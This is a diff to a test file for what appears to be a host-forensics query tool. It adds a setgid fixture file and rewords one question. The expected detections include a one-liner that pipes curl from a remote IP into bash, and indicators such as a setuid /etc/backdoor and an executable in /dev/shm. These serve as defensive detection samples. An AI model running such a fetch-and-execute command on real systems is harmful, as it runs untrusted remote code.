@@ -126,7 +126,10 @@ ANSWERS: Final[Mapping[str, tuple[list[Row], list[Row]]]] = {
         [{"exe": "/dev/shm/.x"}],
         [{"exe": "/usr/sbin/tmpreaper"}],
     ),
-    "Which programs ran today that did not run before?": ([{"exe": "/opt/new-tool"}], [{"exe": "/opt/old-tool"}]),
+    "Which programs ran in the last hour that did not run before?": (
+        [{"exe": "/opt/new-tool"}],
+        [{"exe": "/opt/old-tool"}],
+    ),
     "Which programs crashed?": ([{"name": "parser"}], [{"name": "sleep"}]),
     "Which one-liners were given to an interpreter?": (
         [{"cmdline": "/usr/bin/perl -MIO -e 'print 1'"}, {"cmdline": "sh -c 'curl -s https://198.51.100.40/i | bash'"}],
@@ -163,7 +166,7 @@ ANSWERS: Final[Mapping[str, tuple[list[Row], list[Row]]]] = {
     ),
     "Which files in /etc changed within a day?": ([{"path": "/etc/changed"}], [{"path": "/etc/unchanged"}]),
     "Which setuid programs are where no package puts them?": (
-        [{"path": "/etc/backdoor", "mode": "4755"}],
+        [{"path": "/etc/backdoor", "mode": "4755"}, {"path": "/home/alice/tool", "mode": "2755"}],
         [{"path": "/etc/changed"}],
     ),
     "Which jobs does cron run?": ([{"path": "/etc/cron.d/job"}], []),
@@ -224,6 +227,8 @@ def prepare_files(agent: RunningAgent) -> None:
         file.write_text(name)
         agent.run_beside("touch", "-d", f"@{time.time() - age}", f"/etc/{name}")
     (root / "etc/backdoor").chmod(0o4755)
+    (root / "home/alice/tool").write_text("tool")
+    (root / "home/alice/tool").chmod(0o2755)
     (root / "etc/cron.d").mkdir(exist_ok=True)
     (root / "etc/cron.d/job").write_text("# every minute\n* * * * * root /usr/local/bin/job\n")
 
